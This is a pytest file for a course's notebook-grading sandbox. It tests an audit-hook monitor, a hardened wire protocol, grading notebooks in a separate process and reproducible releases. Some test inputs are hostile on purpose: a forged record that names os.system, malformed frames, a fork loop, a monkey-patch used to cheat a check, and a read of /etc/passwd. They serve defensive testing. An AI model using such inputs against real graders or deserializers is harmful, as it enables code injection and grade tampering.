# ------------------------------------------------------------------------------ what the witness sees

DEED = """
import os, shutil, signal, socket, subprocess, sys, tempfile, pathlib
from fdlib.course.grading.witness import Witness, PUBLIC
file = os.open("notes", os.O_WRONLY | os.O_CREAT | os.O_APPEND)
sys.addaudithook(Witness(file, [os.getcwd()], [sys.prefix, sys.base_prefix, *PUBLIC]))
try:
    {}
except (OSError, subprocess.SubprocessError):
    pass
"""


@pytest.mark.parametrize(
    ("code", "deeds"),
    [
        ("open('mine', 'w').write('x'); os.mkdir('d'); os.rename('mine', 'd/mine'); shutil.rmtree('d')", []),
        ("subprocess.Popen(['sleep', '9']).kill()", [["start", "sleep 9", 1]]),
        ("open('/nowhere/x', 'w')", [["change", "/nowhere/x", 1]]),
        ("open(b'/nowhere/x')", [["read", "/nowhere/x", 1]]),
        ("pathlib.Path('/nowhere/x').unlink()", [["remove", "/nowhere/x", 1]]),
        ("os.rename('notes', '../elsewhere/notes')", [["change", "elsewhere", 1]]),
        ("shutil.rmtree('/nowhere/x')", [["remove", "/nowhere/x", 1]]),
        ("os.listdir('/nowhere')", [["look into", "/nowhere", 1]]),
        ("open('/etc/passwd').read(); os.listdir('/usr')", []),
        ("socket.socket().connect(('127.0.0.1', 9))", []),
        ("socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'', ('127.0.0.1', 9))", []),
        ("socket.getaddrinfo('name.invalid', 80)", [["look up", "name.invalid", 1]]),
        ("os.kill(os.getpid(), 0); os.kill(2**22 + 1, 9)", [["signal", "process 4194305", 1]]),
        ("os.system('true')", [["start", "true", 1]]),
        ("[os.waitpid(os.fork() or os._exit(0), 0) for _ in range(12)]", [["fork", "", 1], ["fork", "", 10]]),
    ],
)
def test_the_witness_notes_what_reaches_out(tmp_path, code, deeds):
    home = tmp_path / "home"
    home.mkdir()
    done = subprocess.run(
        [sys.executable, "-c", DEED.format(code)], cwd=home, env=os.environ | {"PYTHONPATH": str(ROOT)}
    )
    assert done.returncode == 0
    said = [json.loads(line) for line in (home / "notes").read_text().splitlines()]
    assert [
        [deed, thing if thing[:1] != "/" or "elsewhere" not in thing else "elsewhere", n] for deed, thing, n in said
    ] == deeds


def test_a_witness_can_be_filled_with_anything():
    """The notes' file is the student's too: nothing in it may become more than a line of text."""
    lines = [
        '["connect", "1.2.3.4:80", 1]',
        "[",
        "[]",
        '["connect", 3, 1]',
        '["other", "x", 1]',
        '["fork", "", 10]',
        "[" * 10**5,
    ]
    lines += [json.dumps(["read", "x" * 10**6, 1])] + [json.dumps(["start", f"p{n}", 1]) for n in range(9)]
    said = witness.in_words("\n".join(lines), shut=True)
    assert said[:2] == [
        "tried to open a connection to 1.2.3.4:80 (no network)",
        "made copies of its process (10 times or more)",
    ]
    assert len(said) == 4 and len(said[2]) < 300 and said[3] == "started other programs: p0, p1, p2, p3 and 5 more"
    (open_,) = witness.in_words('["connect", "1.2.3.4:80", 1]', shut=False)
    assert open_ == "tried to open a connection to 1.2.3.4:80 (these walls may have let it)"


# ------------------------------------------------------------------------------ what crosses the wall


def test_data_survive_the_wire():
    import numpy as np

    from fdlib.denoiser import Prediction

    value = [
        1,
        2.5,
        None,
        True,
        "é",
        (1, [2]),
        {"a": {3}},
        torch.arange(6.0).reshape(2, 3).double(),
        torch.tensor(True),
        1j,
        ...,
    ]
    value += [np.float32(2.5), np.arange(3), torch.zeros(0, 3), torch.float64, Prediction(noise=torch.ones(2))]
    said, blob = encode(value, lambda _: pytest.fail("data need no handle"))
    back = decode(json.loads(json.dumps(said)), blob, lambda _: None)
    assert (
        back[:7] == value[:7]
        and torch.equal(back[7], value[7])
        and back[8].item() is True
        and back[9:11] == value[9:11]
    )
    assert back[11] == 2.5 and (back[12] == value[12]).all() and back[13].shape == (0, 3) and back[14] is torch.float64
    assert torch.equal(back[15].noise, torch.ones(2))


@pytest.mark.parametrize(
    "said",
    [
        {"is": "tensor", "dtype": "float32", "shape": [10**12], "at": [0, 0]},
        {"is": "tensor", "dtype": "evil", "shape": [], "at": [0, 8]},
        {"is": "tensor", "dtype": "float32", "shape": [-1, -4], "at": [0, 16]},
        {"is": "record", "class": ["os", "system"], "of": {"command": "true"}},
        {"is": "record", "class": ["fdlib.course.grading.sandbox", "shutil"], "of": {}},
        {"is": "record", "class": ["fdlib.runs", "Path"], "of": {}},
        {"is": "dict", "of": [[[], 1]]},
        {"is": "unknown"},
        {"no": "kind"},
        [1],
    ],
)
def test_malice_is_an_error_and_nothing_else(said):
    def other(said):
        raise ValueError

    with pytest.raises(WireError):
        decode(said, b"", other)


def hostile(*frames):
    """A link to a student's process that says just these bytes."""
    ours, theirs = socket.socketpair()
    theirs.sendall(b"".join(frames))
    theirs.shutdown(socket.SHUT_WR)
    return Link(Channel(ours)), theirs


def frame(words, blob=b""):
    text = words if isinstance(words, bytes) else json.dumps(words).encode()
    return HEAD.pack(len(text), len(blob)) + text + blob


@pytest.mark.parametrize(
    "answer",
    [
        b"",
        b"garbage that is no frame at all",
        struct.pack(">IQ", 10, 2**60),
        frame(b"[[[["),
        frame([1, 2]),
        frame({"op": "answer", "id": 1, "said": {"is": "handle", "handle": "x", "type": 3}}),
        frame({"op": "callback", "local": 10**9, "said": {"is": "list", "of": [[], {}]}}),
    ],
)
def test_a_hostile_process_fails_its_check(answer):
    judge = Judge(tiny())
    link, theirs = hostile(answer)
    with pytest.raises(WireError):
        judge.check("check-root", link, seconds=5)
    theirs.close()


def test_a_student_cannot_pretend_to_be_equal_nor_choose_an_exception_of_the_judge():
    judge = Judge(tiny())
    handle = {"is": "handle", "handle": 0, "type": "float", "callable": True}
    nothing = {"is": "dict", "of": [[name, {"is": "dict", "of": []}] for name in ("tensors", "alias", "attributes")]}
    link, _keep = hostile(
        frame({"op": "answer", "id": 1, "said": handle}),
        frame({"op": "answer", "id": 2, "said": {"is": "list", "of": [handle, nothing]}}),
    )
    assert judge.check("check-root", link, seconds=5).message == "AssertionError: root(9) should be 3"
    link, _keep = hostile(frame({"op": "answer", "id": 1, "error": "SystemExit", "message": "0"}))
    with pytest.raises(StudentError):
        link.ask("get", name="root")


# ------------------------------------------------------------------------------ every chapter's checks, from apart

STUDENT = """
import json, sys, nbformat
from fdlib.course.grading import worker
job = json.load(open(sys.argv[1]))
names = {"__name__": "__main__"}
for cell in nbformat.read(job["notebook"], as_version=4).cells:
    meta = cell.metadata.get("nbgrader", {})
    if cell.cell_type != "code":
        continue
    if not meta.get("grade") or meta.get("solution"):
        exec(cell.source, names)
        continue
    worker.serve(meta["grade_id"], names)
    for source in job["wrong"].get(meta["grade_id"], []):
        other = dict(names)
        exec(source, other)
        worker.serve(meta["grade_id"], other)
"""


@contextlib.contextmanager
def lent(folder):
    """A link to a process that runs the notebook of ``folder``/job.json, without a jail, and lends what it defines."""
    server = socket.socket(socket.AF_UNIX)
    server.bind(str(folder / "s"))
    server.listen(1)
    server.settimeout(300)
    environment = os.environ | {"FDLIB_CHANNEL": str(folder / "s"), "OMP_NUM_THREADS": "1"}
    words = [sys.executable, "-c", STUDENT, str(folder / "job.json")]
    with subprocess.Popen(words, env=environment, stdout=subprocess.DEVNULL) as student:
        try:
            yield Link(Channel(server.accept()[0]))
        finally:
            student.kill()
            server.close()


SOLUTIONS = sorted((ROOT / "solutions").glob("[0-9]*.ipynb"))


@pytest.mark.slow
@pytest.mark.parametrize("path", SOLUTIONS, ids=[path.stem for path in SOLUTIONS])
def test_every_check_judges_from_apart(tmp_path, path):
    """Solutions pass, typical mistakes are named, as in the students' own kernels: the wall changes no verdict."""
    assignment = Assignment.load(path.parent, path.stem)
    judge, file = Judge(assignment.notebook), ROOT / "tests" / "wrong_answers" / f"{path.stem[:2]}.py"
    known: dict = {}
    exec(file.read_text(encoding="utf-8"), known)
    wrong = {}
    for exercise in assignment.exercises:
        if exercise.check:
            source = assignment.cells[exercise.answer].source
            wrong[exercise.check] = [
                (message, source.replace(old, new)) for message, old, new in known["WRONG"][exercise.answer]
            ]
    job = {"notebook": str(path), "wrong": {check: [source for _, source in each] for check, each in wrong.items()}}
    (tmp_path / "job.json").write_text(json.dumps(job))
    with lent(tmp_path) as link:
        for name in judge.sources:
            for message in (None, *(message for message, _ in wrong[name])):
                link.channel.deadline = time.monotonic() + 600
                words, _ = link.channel.receive()
                assert words == {"op": "ready", "check": name}
                verdict = judge.check(name, link, seconds=300)
                assert verdict.passed == (message is None), f"{name}, {message}: {verdict}"
                assert message is None or re.search(message, verdict.message), (
                    f"{name}: {message!r}, {verdict.message!r}"
                )
                link.channel.send({"op": "done"})


TOGETHER = """\
# %%
import math

# %% nbgrader={"grade_id": "half", "solution": true}
half = lambda x: x / 2

# %% nbgrader={"grade_id": "check-half", "grade": true, "points": 1}
assert type(half).__name__ == "function" and math.isclose(half(4), 2)
"""


@pytest.mark.parametrize(
    ("cell", "passed", "message"),
    [
        ("", True, ""),
        ("half = lambda x: x / 3", False, "AssertionError"),
        ("math.isclose = lambda *a: True; half = lambda x: 7", False, "tampered with"),
    ],
    ids=["right", "wrong", "patched"],
)
def test_a_check_that_needs_the_object_itself_runs_beside_it_and_notices_patches(tmp_path, cell, passed, message):
    notebook = complete(jupytext.reads(TOGETHER, fmt="py:percent"))
    judge = Judge(notebook)
    notebook.cells.insert(2, nbformat.v4.new_code_cell(cell))
    nbformat.write(notebook, tmp_path / "n.ipynb")
    (tmp_path / "job.json").write_text(
        json.dumps({"notebook": str(tmp_path / "n.ipynb"), "wrong": {"check-half": [cell or "0"]}})
    )
    with lent(tmp_path) as link:
        link.channel.receive()
        assert not judge.check("check-half", link, seconds=300).passed, "from apart it is no function"
        link.channel.send({"op": "done"})
        link.channel.receive()
        verdict = judge.check("check-half", link, seconds=300, together=True)
        assert verdict.passed == passed and message in verdict.message
        link.channel.send({"op": "done"})


# ------------------------------------------------------------------------------ a real chapter, release, syllabus


@pytest.mark.slow
def test_a_real_chapter_from_release_to_grades(tmp_path, walls):
    """Students get the zip, one solves it, one leaves it blank, one makes a typical mistake; all is judged from apart."""
    done = command("release", "--exercise", "01", "--out", tmp_path / "class.zip", cwd=ROOT)
    assert done.returncode == 0, done.stderr
    with zipfile.ZipFile(tmp_path / "class.zip") as archive:
        blank = nbformat.reads(archive.read("fdlib-exercises/exercises/01_ddpm_basics.ipynb").decode(), as_version=4)
    solution = nbformat.read(ROOT / "solutions" / "01_ddpm_basics.ipynb", as_version=4)
    answers = {
        cell.metadata["nbgrader"]["grade_id"]: cell.source for cell in solution.cells if "nbgrader" in cell.metadata
    }
    wrong = answers | {"jump": answers["jump"].replace("return r, v", "return r, v.sqrt()")}
    for student, given in {"Blank": {}, "Solved": answers, "Wrong": wrong}.items():
        notebook = nbformat.from_dict(blank)
        for cell in notebook.cells:
            meta = cell.metadata.get("nbgrader", {})
            if meta.get("solution"):
                cell.source = given.get(meta["grade_id"], cell.source)
        (tmp_path / "s" / student).mkdir(parents=True)
        nbformat.write(notebook, tmp_path / "s" / student / "01_ddpm_basics.ipynb")
        blank = nbformat.reads(nbformat.writes(student_version(solution)), as_version=4)
    done = command(
        "grade",
        tmp_path / "s",
        "--exercise",
        "01",
        "--solutions",
        ROOT / "solutions",
        "--out",
        tmp_path / "o",
        cwd=tmp_path,
    )
    assert done.returncode == 0, done.stdout + done.stderr
    found = {result["student"]: result for result in reports.load(tmp_path / "o").values()}
    assert {part["judged"] for part in found["Solved"]["exercises"]} == {"apart", "by hand"}
    automatic = [part for part in found["Solved"]["exercises"] if not part["by_hand"]]
    assert all(part["points"] == part["max"] for part in automatic) and len(automatic) >= 8
    assert not any(part["points"] for part in found["Blank"]["exercises"])
    assert [p["grade_id"] for p in found["Wrong"]["exercises"] if p["points"] == 0] == ["check-jump"]
    assert "standard deviation" in messages(found["Wrong"])["check-jump"]


def test_the_release_is_reproducible_and_holds_no_secret(tmp_path):
    from fdlib.course.grading.release import release

    course = tmp_path / "course"
    instructor(course)
    shutil.copy(ROOT / "LICENSE", course)
    (course / "solutions" / "01_tiny.ipynb").unlink()
    (course / "solutions" / "01_tiny.py").write_text(SOURCE, encoding="utf-8")
    with pytest.raises(ValueError, match="make exercises"):
        release(course, tmp_path / "a.zip")
    from fdlib.course.exercises import build

    build(course / "solutions", course / "exercises")
    names = release(course, tmp_path / "a.zip")
    time.sleep(0.1)
    os.utime(course / "exercises" / "01_tiny.ipynb", (0, 0))
    release(course, tmp_path / "b.zip")
    assert (tmp_path / "a.zip").read_bytes() == (tmp_path / "b.zip").read_bytes()
    assert names == ["LICENSE", "README.md", "exercises/01_tiny.ipynb", "requirements.txt"]
    with zipfile.ZipFile(tmp_path / "a.zip") as archive:
        text = "".join(archive.read(name).decode() for name in archive.namelist())
    assert "2 * x" not in text and "halves" not in text and "model answer" not in text and "YOUR CODE HERE" in text
    with pytest.raises(ValueError, match="no exercises called 77"):
        release(course, tmp_path / "c.zip", ["77"])


def test_the_syllabus_counts_what_is_there():
    from fdlib.course.exercises import read

    found = chapters(ROOT)
    exercises = [read(nbformat.read(path, as_version=4)) for path in (ROOT / "exercises").glob("[0-9]*.ipynb")]
    assert sum(chapter.points for chapter in found) == sum(e.points for chapter in exercises for e in chapter)
    assert sum(chapter.work for chapter in found) == sum(e.minutes for chapter in exercises for e in chapter)
    plan = weeks(found)
    assert len(plan) == 10 and [chapter for week in plan for chapter in week] == found
    text = syllabus(ROOT)
    assert all(f"notebooks/{chapter.name}.ipynb" in text for chapter in found) and "thesis" in text
    for target in re.findall(r"\]\((notebooks/[^)]+)\)", text):
        assert (ROOT / target).exists()


@pytest.mark.parametrize("name", ["release", "grade", "report", "syllabus"])
def test_every_command_has_help(name, capsys):
    from fdlib.course.__main__ import main

    with pytest.raises(SystemExit) as stop:
        main([name, "--help"])
    said = capsys.readouterr().out
    assert stop.value.code == 0 and "usage: python -m fdlib.course" in said and "None" not in said
    assert not re.search(r"^  (-\S+|\w+)( [A-Z]+)?\n(?!   )", said, re.M), "an option without a word about it"
